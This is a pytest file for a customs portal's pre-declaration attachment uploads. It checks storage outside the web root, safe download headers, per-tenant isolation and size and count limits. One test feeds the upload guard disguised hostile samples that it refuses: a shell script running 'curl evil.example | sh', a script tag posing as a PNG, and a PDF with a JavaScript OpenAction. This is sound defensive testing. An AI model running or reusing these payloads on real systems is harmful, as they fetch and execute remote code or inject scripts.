"""F-50 attachments: the holder adds documents to a pre-declaration with the wallet's form; every
file passes the one upload guard (portal/domain/uploads.py: size, real type by content, no
scripts) and is stored outside the web root; the officer opens them from Details
(`send_upload`: a download, nosniff, a CSP that runs nothing), tenant-scoped — another
administration's is a 404."""

from __future__ import annotations

import io
import os
import stat

from sqlalchemy import select

from portal.models import Predeclaration, PredeclarationAttachment
from tests.web.wallet.test_f50_f52_predeclarations import (
    _form,
    _import_voucher,
    _sent,
    _text,
)
from tests.web.wallet.test_wallet_travels import _new_travel, ready  # noqa: F401

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def _png() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (40, 20), "green").save(buf, "PNG")
    return buf.getvalue()


def _multipart(url_post, fields: dict, files):
    """A multipart body built in memory (the test client would spool a large one to a temporary
    file it never closes)."""
    from werkzeug.datastructures import FileStorage, MultiDict
    from werkzeug.test import encode_multipart

    values = MultiDict(fields)
    for data, name in files:
        values.add("attachments", FileStorage(io.BytesIO(data), name))
    boundary, body = encode_multipart(values)
    return url_post(data=body, content_type=f"multipart/form-data; boundary={boundary}")


def _post(c, v, office, files, url=None):
    url = url or f"/my/vouchers/{v.id}/predeclaration"
    return _multipart(lambda **kw: c.post(url, **kw), _form(office), files)


def _stored(app) -> list[str]:
    folder = os.path.join(app.config["STORAGE_DIR"], "predeclarations")
    return sorted(os.listdir(folder)) if os.path.isdir(folder) else []


def _officer(login_as, world, cc="fr"):
    return login_as(cc, "officer", account=world.officer(cc).account)


def test_f50_a_pdf_and_an_image_are_attached_and_the_officer_opens_them(
    app,
    ready,  # noqa: F811
    session,
    world,
    login_as,
):
    c, _holder, one = ready
    t = _new_travel(c, session, one.carnet_id)
    v = _import_voucher(session, t)
    office = world.officer("fr").office
    before = _stored(app)
    r = _post(c, v, office, [(PDF, "air waybill.pdf"), (_png(), "crate.png")])
    assert r.status_code == 303, _text(r)[-1500:]
    p = _sent(session, v)
    rows = session.scalars(
        select(PredeclarationAttachment).where(PredeclarationAttachment.predeclaration_id == p.id)
    ).all()
    assert [(a.filename, a.content_type) for a in rows] == [
        ("air waybill.pdf", "application/pdf"),
        ("crate.png", "image/png"),
    ]
    # stored outside the web root (STORAGE_DIR, not static/), random names, owner-only
    assert len(_stored(app)) == len(before) + 2
    static = os.path.realpath(app.static_folder)
    for a in rows:
        path = os.path.realpath(os.path.join(app.config["STORAGE_DIR"], a.path))
        assert not path.startswith(static) and "waybill" not in path
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    # the officer of the addressed office sees them on Details and downloads them
    officer = _officer(login_as, world)
    page = _text(officer.get(f"/predeclarations/{p.id}"))
    url = f"/predeclarations/{p.id}/attachments/{rows[0].id}"
    assert url in page and "air waybill.pdf" in page
    r = officer.get(url)
    assert r.status_code == 200 and r.data == PDF
    assert r.headers["Content-Disposition"].startswith("attachment;")
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in r.headers["Content-Security-Policy"]
    # another administration: 404, never the file
    other = _officer(login_as, world, "be")
    assert other.get(url).status_code == 404
    # an attachment reached through another pre-declaration's id: 404
    assert officer.get(f"/predeclarations/{p.id + 999}/attachments/{rows[0].id}").status_code == 404


def test_f50_a_renamed_script_is_refused_and_nothing_is_saved(
    app,
    ready,  # noqa: F811
    session,
    world,
):
    c, _holder, one = ready
    t = _new_travel(c, session, one.carnet_id)
    v = _import_voucher(session, t)
    office = world.officer("fr").office
    before = _stored(app)
    for data, name in (
        (b"#!/bin/sh\ncurl evil.example | sh\n", "invoice.pdf"),
        (b"<script>alert(1)</script>", "photo.png"),
        (b"%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>", "a.pdf"),
    ):
        r = _post(c, v, office, [(PDF, "ok.pdf"), (data, name)])
        body = _text(r)
        assert r.status_code == 422 and 'id="attachments-error"' in body
        assert name in body and ("checked by its content" in body or "active content" in body)
    assert _sent(session, v) is None  # neither the pre-declaration nor the good file
    assert _stored(app) == before
    assert session.scalar(select(PredeclarationAttachment.id)) is None


def test_f50_an_oversize_file_and_too_many_files_are_refused(
    app,
    ready,  # noqa: F811
    session,
    world,
):
    c, _holder, one = ready
    t = _new_travel(c, session, one.carnet_id)
    v = _import_voucher(session, t)
    office = world.officer("fr").office
    before = _stored(app)
    big = PDF + b"0" * (5 * 1024 * 1024)
    r = _post(c, v, office, [(big, "scan.pdf")])
    assert r.status_code == 422 and "larger than 5 MB" in _text(r)
    r = _post(c, v, office, [(PDF, f"d{i}.pdf") for i in range(6)])
    assert r.status_code == 422 and "At most 5 attachments" in _text(r)
    assert _sent(session, v) is None and _stored(app) == before
    # without files the pre-declaration is sent as before; a change adds files up to five
    assert _post(c, v, office, []).status_code == 303
    p = _sent(session, v)
    edit = f"/my/predeclarations/{p.id}/edit"
    r = _post(c, v, office, [(PDF, f"e{i}.pdf") for i in range(6)], url=edit)
    assert r.status_code == 422 and "At most 5 attachments" in _text(r)
    r = _post(c, v, office, [(PDF, "late.pdf")], url=edit)
    assert r.status_code == 303
    session.expire_all()
    assert [a.filename for a in session.scalars(select(PredeclarationAttachment))] == ["late.pdf"]
    assert session.get(Predeclaration, p.id).state == "pending"
